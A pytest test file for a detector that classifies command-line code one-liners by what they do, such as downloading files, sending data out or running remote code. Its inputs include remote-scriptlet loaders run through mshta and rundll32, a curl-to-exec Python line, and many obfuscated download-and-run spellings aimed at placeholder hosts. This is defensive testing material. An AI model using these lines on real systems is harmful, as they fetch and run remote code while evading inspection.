"""Code on command lines: every example of every language file, and what holds for all of them."""

from __future__ import annotations

import base64
import time

import pytest

from tidewaiter.catalog import languages
from tidewaiter.catalog.languages import Example
from tidewaiter.reading import one_liners
from tidewaiter.reading.budget import Budget
from tidewaiter.reading.one_liners import OneLiner
from tidewaiter.schema.action import Action, ActionKind

EXAMPLES = [
    pytest.param(language.name, example, id=f"{language.name}-{number}")
    for name, language in languages.load().items()
    if name == language.name
    for number, example in enumerate(language.example)
]


def read(language: str, code: str) -> OneLiner:
    return one_liners.read(language, code, Budget())


def strongest(result: OneLiner) -> str:
    kinds = {action.kind.value for action in result.actions}
    return next((kind for kind in ("lateral", "ingress", "upload") if kind in kinds), "benign")


def only(result: OneLiner) -> Action:
    (action,) = result.actions
    return action


@pytest.mark.parametrize(("language", "example"), EXAMPLES)
def test_every_example_is_read_as_it_says(language: str, example: Example) -> None:
    budget = Budget(cpu_seconds=5)
    result = one_liners.read(language, example.code, budget)
    assert not budget.limits
    assert strongest(result) == example.label
    assert tuple(url for action in result.actions for url in action.urls) == example.urls
    assert next((action.dest for action in result.actions if action.dest), None) == example.dest
    assert any(action.runs for action in result.actions) == example.runs
    assert tuple(text for _, text in result.shell_texts) == example.shell


def test_the_utility_is_the_interpreter() -> None:
    assert only(read("python3.12", "import wget;wget.download('http://192.0.2.1/a')")).utility == "python"
    assert only(read("jrunscript", "cp('http://192.0.2.1/a','a')")).utility == "jrunscript"


@pytest.mark.parametrize(
    ("program", "code"),
    [
        ("mshta", 'javascript:a=GetObject("script:https://example.com/a.sct").Exec();close();'),
        ("mshta.exe", 'vbscript:Execute("GetObject(""script:https://example.com/a.sct"")"):close'),
        ("mshta", 'about:<script language="vbscript">GetObject("script:https://example.com/a.sct")</script>'),
        ("wscript", 'GetObject("script:https://example.com/a.sct")'),
        (
            "rundll32",
            'javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://example.com/a.sct")',
        ),
    ],
)
def test_hosts_of_windows_scripts_tell_their_language(program: str, code: str) -> None:
    action = only(read(program, code))
    assert (action.urls, action.runs) == (("https://example.com/a.sct",), True)


def test_osascript_tells_its_language() -> None:
    assert read("osascript", 'do shell script "id"').shell_texts == (("shell", "id"),)
    code = "var a=Application.currentApplication();a.doShellScript('id')"
    assert read("osascript", code).shell_texts == (("shell", "id"),)


def test_windows_scripts_start_windows_shells() -> None:
    code = 'CreateObject("WScript.Shell").Run "cmd /c dir"'
    assert read("vbscript", code).shell_texts == (("windows", "cmd /c dir"),)


def test_printed_content_is_offered_to_the_pipe() -> None:
    result = read("python", "import urllib.request as r;print(r.urlopen('http://192.0.2.1/a').read().decode())")
    assert [action.urls for action in result.printed] == [("http://192.0.2.1/a",)]
    assert only(result).kind is ActionKind.BENIGN


def test_output_of_a_shell_text_goes_on() -> None:
    code = "import os;exec(os.popen('curl -s http://192.0.2.1/a').read())"
    assert read("python", code).shell_texts == (("shell", "curl -s http://192.0.2.1/a | python"),)
    code = "open('/tmp/a','w').write(__import__('os').popen('curl -s http://192.0.2.1/a').read())"
    assert read("python", code).shell_texts == (("shell", 'curl -s http://192.0.2.1/a > "/tmp/a"'),)


def test_loopback_is_not_ingress() -> None:
    code = "import urllib.request as r;r.urlretrieve('http://127.0.0.1:8000/a','a')"
    assert only(read("python", code)).kind is ActionKind.BENIGN


URL = "http://192.0.2.1/a"
CODED = base64.b64encode(URL.encode()).decode()
PYTHON_URLS = [
    f"'{URL}'",
    "'http'+'://192.0.2.1'+'/a'",
    "'http' '://192.0.2.1/a'",
    f"'{URL[::-1]}'[::-1]",
    f"base64.b64decode('{CODED}').decode()",
    f"__import__('base64').b64decode(b'{CODED}').decode('utf-8')",
    f"bytes.fromhex('{URL.encode().hex()}').decode()",
    f"codecs.decode('{URL.encode().hex()}','hex').decode()",
    "codecs.decode('uggc://192.0.2.1/n','rot13')",
    "''.join(['http','://','192.0.2.1','/a'])",
    "''.join(map(chr,[" + ",".join(str(byte) for byte in URL.encode()) + "]))",
    "+".join(f"chr({byte})" for byte in URL.encode()),
    "'%s://%s/a' % ('http','192.0.2.1')",
    "f\"{'http'}://192.0.2.1/a\"",
    "'hXXp://192.0.2.1/a'.replace('XX','tt')",
    "'" + "".join(f"\\x{byte:02x}" for byte in URL.encode()) + "'",
    "u",
    "''.join(chr(c) for c in [" + ",".join(str(byte) for byte in URL.encode()) + "])",
    "''.join([x for x in ['http:', '//192.0.2.1', '/a']])",
    "'http://{}/a'.format('192.0.2.1')",
]


@pytest.mark.parametrize("spelled", PYTHON_URLS)
def test_a_hidden_url_is_unfolded(spelled: str) -> None:
    code = f"import base64,codecs\nfrom urllib.request import urlretrieve as g\nu='{URL}'\ng({spelled},'/tmp/a')"
    assert only(read("python", code)).urls == (URL,)


NESTED = "import urllib.request as r;r.urlretrieve('http://192.0.2.1/a','/tmp/a')"


@pytest.mark.parametrize(
    "code",
    [
        f"exec('''{NESTED}''')",
        f"exec(__import__('base64').b64decode('{base64.b64encode(NESTED.encode()).decode()}'))",
        f"import base64 as b;exec(compile(b.b64decode('{base64.b64encode(NESTED.encode()).decode()}'),'','exec'))",
        f"getattr(__import__('builtins'),'exec')(bytes.fromhex('{NESTED.encode().hex()}'))",
        "getattr(__import__('urllib.request').request,'urlretrieve')('http://192.0.2.1/a','/tmp/a')",
        "g=__import__('urllib.request',fromlist=['x']).urlretrieve;g('http://192.0.2.1/a','/tmp/a')",
        "(lambda u,p:__import__('urllib.request').request.urlretrieve(u,p))('http://192.0.2.1/a','/tmp/a')",
        (
            "import urllib.request\nif True:\n  for i in range(2):\n    try:\n"
            "      urllib.request.urlretrieve(url='http://192.0.2.1/a', filename='/tmp/a')\n    except Exception: pass"
        ),
        "import urllib.request as r\nopener=r.build_opener()\nopen('/tmp/a','wb').write(opener.open('http://192.0.2.1/a').read())",
        "import urllib.request as r;[open('/tmp/a','wb').write(x.read()) for x in [r.urlopen('http://192.0.2.1/a')]]",
        "import urllib.request as r;q=r.Request('http://192.0.2.1/a',headers={'User-Agent':'x'});open('/tmp/a','wb').write(r.urlopen(q).read())",
        (
            "import requests\nwith requests.get('http://192.0.2.1/a',stream=True) as q:\n"
            "  with open('/tmp/a','wb') as f:\n    for c in q.iter_content(8192): f.write(c)"
        ),
    ],
)
def test_python_in_many_spellings(code: str) -> None:
    action = only(read("python", code))
    assert (action.kind, action.urls, action.dest) == (ActionKind.INGRESS, (URL,), "/tmp/a")


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("python", "x = {'a': 1}\nfor k in x: print(k, 'http://192.0.2.1/a')"),
        ("python", "import requests; r = requests.get('http://192.0.2.1/api'); assert r.ok"),
        ("perl", "while (<>) { s/a/b/; print if m{http://192.0.2.1/a} }"),
        ("ruby", "ARGF.each_line { |l| puts l if l =~ /curl/ }"),
        ("php", "foreach ($argv as $a) { echo strlen($a); } copy('a','b');"),
        ("node", "const fs=require('fs'); fs.writeFileSync('a', JSON.stringify({u:'http://192.0.2.1/a'}))"),
        ("node", "require('http').createServer((q,s)=>s.end('ok')).listen(80)"),
        ("awk", "-F: '{ if ($3 > 1000) print $1 }' /etc/passwd"),
        ("python", "import http.server as h; h.test(h.SimpleHTTPRequestHandler, port=8000)"),
    ],
)
def test_ordinary_code_brings_nothing(language: str, code: str) -> None:
    assert strongest(read(language, code)) == "benign"


HOSTILE = {
    "brackets": "(" * 30_000,
    "mixed brackets": "([{" * 10_000,
    "calls": "f(" * 15_000,
    "strings": "'\"" * 15_000,
    "unclosed": "x='" + "a" * 60_000,
    "doubling": "a='x'*99\n" + "a=a+a\n" * 60 + "exec(a)",
    "recursion": "def f(x):\n  f(x); f(x); f(x)\nf(1)",
    "lambdas": "lambda x:" * 3_000,
    "evals": "exec(\"exec('exec(1)')\")" * 500,
    "members": "a" + ".b" * 20_000,
    "operators": "-" * 30_000,
    "comprehensions": "[x for x in " * 3_000,
    "joins": "+".join(["'a'"] * 10_000),
    "megabyte": "x" * 1_000_000,
    "controls": "\x00\u202e\udcff\\" * 5_000,
    "slashes": "/\\" * 15_000,
    "interpolation": '"' + "${" * 10_000 + '"',
    "blocks": "x.each { |y| " * 3_000,
    "ends": "do |x| " * 4_000,
    "heredoc": "<<" * 10_000,
    "q": "q(" * 10_000,
}


@pytest.mark.parametrize("language", ["python", "perl", "ruby", "node", "vbscript"])
@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_code_gets_a_bounded_answer(language: str, name: str) -> None:
    budget = Budget()
    began = time.process_time()
    one_liners.read(language, HOSTILE[name], budget)
    assert time.process_time() - began < 1.0  # the bound is 0.05; room for slow, busy machines
    assert budget.depth_left == 12


def test_an_unknown_language_gives_an_empty_answer() -> None:
    assert read("cobol", "DISPLAY 'http://192.0.2.1'") == OneLiner()


def test_reading_the_language_files_is_not_charged_to_the_command() -> None:
    languages.load.cache_clear()
    budget = Budget(cpu_seconds=0.01)
    result = one_liners.read("python", "import wget;wget.download('http://192.0.2.1/a')", budget)
    assert not budget.limits
    assert only(result).dest == "a"
